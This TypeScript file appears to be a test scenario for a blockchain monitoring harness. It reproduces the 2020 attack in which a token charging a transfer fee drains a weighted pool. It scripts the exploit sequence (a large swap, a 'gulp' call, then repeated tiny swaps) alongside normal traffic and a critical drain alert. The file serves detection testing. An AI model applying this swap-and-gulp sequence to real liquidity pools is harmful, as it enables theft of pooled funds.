import type { Incident } from "../../scene.ts";

const unit = 10n ** 18n;

/** A weighted pool books more of a token with a fee than it got, until one unit buys the other side. */
export const feeTokenSwapped: Incident = {
  name: "Token with a fee empties a weighted pool (Balancer, June 2020, and others until 2024)",
  covers: ["G2", "G4"],
  async setUp({ chain, users, deployer, attacker, coin, fund }) {
    const [weth, sta] = [await coin("WETH", 18, 1_000_000), await coin("STA", 18, 100_000_000)];
    const pool = await chain.deploy("WeightedPool", weth.address, sta.address);
    await fund(weth, 2_000n * unit, pool);
    await fund(sta, 1_000_000n * unit, pool);
    await chain.run(
      sta.call(deployer, "transfer", [attacker, 100_000n * unit]),
      sta.call(attacker, "approve", [pool.address, 2n ** 255n]),
      pool.call(deployer, "join", [900n * unit, 900_000n * unit]),
    );
    return {
      watched: { pool: pool.address },
      traffic: ({ times, pick, amount }) => [
        ...Array.from({ length: times(50) }, () => pool.call(pick(users), "swap", [true, amount(unit / 2n)])),
        ...Array.from({ length: times(50) }, () =>
          pool.call(pick(users), "swap", [false, amount(500n * unit)]),
        ),
      ],
      attack: [
        {
          at: 0,
          send: () => [
            pool.call(attacker, "swap", [false, 20_000n * unit]),
            pool.call(attacker, "gulp"),
            ...Array.from({ length: 12 }, (_, at) => pool.call(attacker, "swap", [false, 1n << BigInt(at)])),
          ],
          signals: [
            { on: "pool", what: "ether of the pool drained", by: ["token_balance"], severity: "critical" },
          ],
        },
      ],
    };
  },
};
